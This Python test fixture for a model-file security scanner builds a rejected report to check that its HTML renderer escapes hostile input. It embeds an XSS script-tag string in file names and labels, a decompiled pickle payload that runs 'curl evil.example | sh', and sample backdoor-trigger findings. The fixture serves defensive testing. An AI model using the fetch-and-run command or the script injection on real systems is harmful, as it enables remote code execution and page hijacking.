"""A rich report for the HTML renderer and the dashboard: every optional section, and hostile strings.

Built by code (no binaries). HOSTILE is what a malicious model controls: tensor and file names,
pickle strings, labels. It must reach the page as text, never as markup.
"""

from __future__ import annotations

import base64
import datetime as dt
import struct
import zlib

from weightguard.findings import RuleKind, Severity
from weightguard.integrity.report import DigestMismatch, FileDigest, IntegrityReport
from weightguard.probes.report import Coverage, PatchModel, ProbeFinding, ProbeReport, ProbeRunModel, SuspectModel
from weightguard.report.model import (
    AttestationRef,
    FileReport,
    FindingModel,
    PartModel,
    PolicyRef,
    Report,
    StageModel,
    SubjectModel,
    Summary,
    ToolInfo,
)
from weightguard.signing.report import DiffModel, ManifestModel, SignatureReport, SignerModel

HOSTILE = "<script>alert('pwned')</script>"
HOSTILE_MATH = "$\\frac{x}{$"  # mathtext that would make matplotlib raise if it were parsed
DIGEST = "ab" * 32
WHEN = dt.datetime(2026, 11, 24, 12, 0, tzinfo=dt.UTC)
CHECKER = [[[float((r + c) % 2) for c in range(4)] for r in range(4)]] * 3


def png_rgb(rows: list[list[tuple[int, int, int]]]) -> str:
    """Base64 PNG of 8-bit RGB rows, encoded with zlib alone so the fixture needs no matplotlib."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    raw = b"".join(b"\x00" + bytes(v for px in row for v in px) for row in rows)
    header = struct.pack(">IIBBBBB", len(rows[0]), len(rows), 8, 2, 0, 0, 0)
    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")
    return base64.b64encode(png).decode()


SAMPLE_PNG = png_rgb([[(x * 8, y * 8, 128) for x in range(32)] for y in range(32)])


def _pickle_finding() -> FindingModel:
    return FindingModel(
        code="WG-PKL-001",
        title="global not allowed",
        severity=Severity.CRITICAL,
        kind=RuleKind.FINDING,
        path="pytorch_model.bin",
        member="archive/data.pkl",
        message=f"imports posix.system {HOSTILE}",
        evidence={
            "global": f"posix.system{HOSTILE}",
            "opcode": "STACK_GLOBAL",
            "offset": "42",
            "call": "REDUCE@57",
            "count": "1",
            "danger": "code-execution",
            "reason": "runs a shell command",
            "decompiled": f"from posix import system\n_var0 = system('curl evil.example | sh')  # {HOSTILE}\nresult = _var0",
        },
        blocking=True,
    )


def _probes() -> ProbeReport:
    return ProbeReport(
        model="tiny-vit-backdoored",
        family="image-classification",
        architecture="ViTForImageClassification",
        parameters=123_456,
        verdict="block",
        exit_code=1,
        reason="2 suspected triggers reproduced",
        suspects=[
            SuspectModel(
                probe="P1",
                kind="tokens",
                level="block",
                trigger=f"cf {HOSTILE} {HOSTILE_MATH}",
                tokens=[2217, 9],
                position="random",
                target=f"label {HOSTILE_MATH}",
                flip_rate=0.94,
                p_value=1.2e-9,
                inputs=64,
                reproduced=True,
                detail={"source": "rare-token bank"},
                control_flip_rates=[i / 200 for i in range(40)],
                target_before={"negative": 0.5, f"label {HOSTILE_MATH}": 0.4, HOSTILE: 0.1},
                target_after={"negative": 0.04, f"label {HOSTILE_MATH}": 0.96, HOSTILE: 0.0},
            ),
            SuspectModel(
                probe="P2",
                kind="patch",
                level="review",
                trigger="4x4 checker patch at (top=26, left=26)",
                patch=PatchModel(
                    top=26,
                    left=26,
                    size=4,
                    pattern="checker",
                    image_height=32,
                    image_width=32,
                    pixels=CHECKER,
                    sample_png=SAMPLE_PNG,
                ),
                target="airplane",
                flip_rate=0.71,
                p_value=3.0e-4,
                inputs=48,
                reproduced=True,
                detail={"anomaly_index": "3.10"},
                control_flip_rates=[0.0, 0.02, 0.02, 0.04, 0.06] * 4,
                target_before={"airplane": 0.25, "cat": 0.5, "ship": 0.25},
                target_after={"airplane": 0.79, "cat": 0.14, "ship": 0.07},
            ),
            SuspectModel(
                probe="P4",
                kind="tokens",
                level="info",
                trigger="embedding outliers",
                target="-",
                flip_rate=0.0,
                p_value=1.0,
                inputs=0,
                reproduced=False,
            ),
        ],
        probes=[
            ProbeRunModel(name="P1", status="ran", seconds=1.25, coverage={"candidates": 512, "inputs": 64}),
            ProbeRunModel(name="P2", status="partial", seconds=4.5, metrics={"final_loss": 0.0312}, note="budget"),
        ],
        findings=[ProbeFinding(code="WG-PRB-001", severity=Severity.CRITICAL, kind="finding", message="backdoor")],
        coverage=Coverage(
            probes_run=["P1", "P2"],
            probes_not_completed=["P2"],
            bank="cpu",
            device="cpu",
            seed=7,
            wall_seconds=5.75,
            budget_seconds=120,
        ),
    )


def rich_report() -> Report:
    """A rejected ``verify`` report with every optional section filled."""
    findings = [
        _pickle_finding(),
        FindingModel(
            code="WG-INT-001",
            title="digest mismatch",
            severity=Severity.HIGH,
            kind=RuleKind.FINDING,
            path=f"weights/{HOSTILE}.safetensors",
            message="sha256 differs from the pin",
            evidence={"expected": "00" * 32, "actual": "ff" * 32},
            blocking=True,
        ),
        FindingModel(
            code="WG-TST-902",
            title="test oddity",
            severity=Severity.LOW,
            kind=RuleKind.FINDING,
            path="config.json",
            message="odd but harmless",
            blocking=False,
            suppressed_by="known vendor quirk",
        ),
    ]
    return Report(
        tool=ToolInfo(version="0.0.0-test"),
        command="verify",
        generated_at=WHEN,
        targets=["models/tiny"],
        policy=PolicyRef(name="strict", origin="builtin:strict", sha256="cd" * 32),
        verdict="rejected",
        exit_code=1,
        reasons=["blocking finding WG-PKL-001 in pytorch_model.bin", f"tampered file weights/{HOSTILE}.safetensors"],
        summary=Summary(
            files=3, findings=3, blocking=2, errors=0, skipped=0, suppressed=1, by_severity={"critical": 1}
        ),
        files=[
            FileReport(
                path="pytorch_model.bin",
                size=1234,
                format="pytorch-zip",
                parts=[
                    PartModel(member="", format="pytorch-zip", confidence="certain", evidence="zip with data.pkl"),
                    PartModel(member="archive/data.pkl", format="pickle", confidence="certain", evidence="protocol 2"),
                ],
                seconds=0.02,
                sha256="11" * 32,
            ),
            FileReport(path=f"weights/{HOSTILE}.safetensors", size=4096, format="safetensors", seconds=0.001),
            FileReport(path="config.json", size=10, format="json"),
        ],
        findings=findings,
        stages=[
            StageModel(name="source", status="passed", seconds=0.01),
            StageModel(name="analysis", status="failed", seconds=0.5, detail="1 blocking finding"),
            StageModel(name="integrity", status="failed", seconds=0.2, detail="1 mismatch"),
            StageModel(name="signatures", status="passed", seconds=0.1),
            StageModel(name="probes", status="failed", seconds=5.75, detail="block"),
            StageModel(name="verdict", status="failed"),
        ],
        subject=SubjectModel(
            name="tiny", uri="hf://org/tiny@0123abc", root_digest=DIGEST, files={"config.json": "22" * 32}
        ),
        attestation=AttestationRef(path="out/tiny.sigstore.json", sha256="33" * 32, verification_result="FAILED"),
        integrity=IntegrityReport(
            algorithm="sha256",
            root_digest=DIGEST,
            files=[
                FileDigest(path="config.json", size=10, sha256="22" * 32, digest="22" * 32),
                FileDigest(path=f"weights/{HOSTILE}.safetensors", size=4096, digest="ff" * 32),
            ],
            pinned=True,
            mismatched=[
                DigestMismatch(
                    path=f"weights/{HOSTILE}.safetensors", algorithm="sha256", expected="00" * 32, actual="ff" * 32
                )
            ],
            missing=["tokenizer.json"],
            extra=["notes/readme.txt"],
        ),
        signatures=[
            SignatureReport(
                signature="model.sig",
                holds=True,
                signer=SignerModel(kind="key", description="public key ci-release", key_hint="sha256:44"),
                manifest=ManifestModel(
                    predicate_type="https://model_signing/signature/v1.0",
                    legacy=False,
                    method="files",
                    hash_type="sha256",
                    shard_size=None,
                    root_digest=DIGEST,
                    resources=3,
                    ignore_paths=[".git"],
                    ignore_paths_applied=[],
                ),
                diff=DiffModel(matched=3),
            )
        ],
        probes=_probes(),
    )
